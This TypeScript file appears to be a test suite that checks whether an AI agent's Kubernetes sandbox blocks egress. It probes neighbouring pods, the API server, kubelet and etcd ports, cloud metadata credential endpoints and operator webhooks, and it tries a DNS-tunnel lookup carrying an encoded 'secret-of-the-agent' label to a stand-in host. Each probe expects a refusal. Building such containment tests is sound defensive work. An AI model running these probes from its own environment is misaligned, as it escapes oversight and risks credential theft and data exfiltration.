import { type Attempt, undecided } from './attempt.ts';
import { ask, get, python, shell, tcp, together } from './tries.ts';

/** By way of what else there is in the cluster. */
const REFUSED = /^(?:ECONNREFUSED(?: ×\d+)?(?:, |$))+$/;

export const NEIGHBOURS: readonly Attempt[] = [
  {
    name: 'another pod that passes on',
    why: 'other pods are outside as well: only names of tools and allowed hosts lead out',
    ends: REFUSED,
    run: ({ relay }) => together([8080, 8443, 9999, 15_020, 15_001].map((port) => tcp(relay.address, port))),
  },
  {
    name: 'the same over UDP',
    why: 'the guard refuses UDP between pods too',
    ends: /^(?:(?:EPERM|ECONNREFUSED)(?:, |$))+$/,
    run: ({ relay }) =>
      python(
        `
def datagram(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.connect((sys.argv[1], port)); s.send(b"undecided"); s.recv(100); return "answered"
for port in (9999, 53): words.append(attempt(lambda: datagram(port)))`,
        relay.address,
      ),
  },
  {
    name: 'another pod at port 80, and its Service',
    why: 'redirected: the gateway knows neither the address nor the name',
    ends: /^(?:403 AEGIS_HOST_UNKNOWN|400 AEGIS_\w+)(?: ×\d+)?(?:, (?:403 AEGIS_HOST_UNKNOWN|400 AEGIS_\w+)(?: ×\d+)?)*$/,
    run: ({ relay }) =>
      together(
        [relay.address, relay.serviceAddress, relay.service].map(async (host) =>
          (await ask({ host, port: 80 }, get(undecided('relay'), host))).replace(/ \[.*/, ''),
        ),
      ),
  },
  {
    name: 'a Service at its other ports',
    why: 'the guard sees the address of the Service before it is translated',
    ends: REFUSED,
    run: ({ relay }) => together([relay.serviceAddress, relay.service].map((host) => tcp(host, 8080))),
  },
  {
    name: 'the API server',
    why: 'no token is there, TLS by address has no server name, and the node’s port is behind the guard',
    ends: /^000 000 ECONNREFUSED(?: ×2)?$/,
    run: async ({ node }) => {
      const service = await shell(
        `for url in "https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api" https://kubernetes.default.svc/api; do curl -sk -m 5 -o /dev/null -w '%{http_code} ' "$url"; done`,
      );
      return `${service.replace(/ *\| exit.*$/, '').trim()} ${await together([tcp(node, 6443)])}`;
    },
  },
  {
    name: 'the kubelet, etcd and other ports of the node',
    why: 'the node is outside, but for DNS',
    ends: REFUSED,
    run: ({ node }) => together([10_250, 10_255, 10_256, 2379, 2380, 22, 6443].map((port) => tcp(node, port))),
  },
  {
    name: 'the metadata of a cloud',
    why: 'redirected at port 80, where an address is no tool; the guard refuses the rest',
    ends: /^403 AEGIS_HOST_UNKNOWN, 403 AEGIS_HOST_UNKNOWN, (?:ECONNREFUSED(?: ×\d+)?)$/,
    async run() {
      const plain = { host: '169.254.169.254', port: 80 };
      const path = '/latest/meta-data/iam/security-credentials/';
      const first = await ask(plain, get(path, '169.254.169.254'));
      const second = await ask(
        plain,
        get('/computeMetadata/v1/', 'metadata.google.internal', 'Metadata-Flavor: Google'),
      );
      const direct = await together([8080, 8775, 1338].map((port) => tcp('169.254.169.254', port)));
      return [first, second, direct].map((text) => text.replace(/ \[.*/, '')).join(', ');
    },
  },
  {
    name: 'the operator: bundles, approvals, webhooks',
    why: 'its Services are for gateways and the API server; the guard refuses the agent',
    ends: /^(?:(?:ECONNREFUSED|ENOTFOUND|000|403|closed|ECONNRESET)(?: ×\d+)?(?:, |$))+$/,
    run: async ({ operator }) => {
      const ports = await together([8443, 9443, 8080, 15_020, 10_250].map((port) => tcp(operator, port)));
      const web = await shell(
        `for url in https://${operator}/v1/bundles http://${operator}/; do curl -sk -m 5 -o /dev/null -w '%{http_code}, ' "$url"; done`,
      );
      return `${ports}, ${web.replace(/ *\| exit.*$/, '').replace(/, *$/, '')}`;
    },
  },
  {
    name: 'names as letters: DNS by the cluster’s own name server',
    why: 'out of scope: the question gets to the name server, which answers for itself; see docs/capture.md',
    ends: /Name or service not known|No address associated|answered/,
    run: () =>
      python(`
words.append(attempt(lambda: socket.getaddrinfo("c2VjcmV0LW9mLXRoZS1hZ2VudA.tunnel.example.com", 443) and "answered"))`),
  },
];
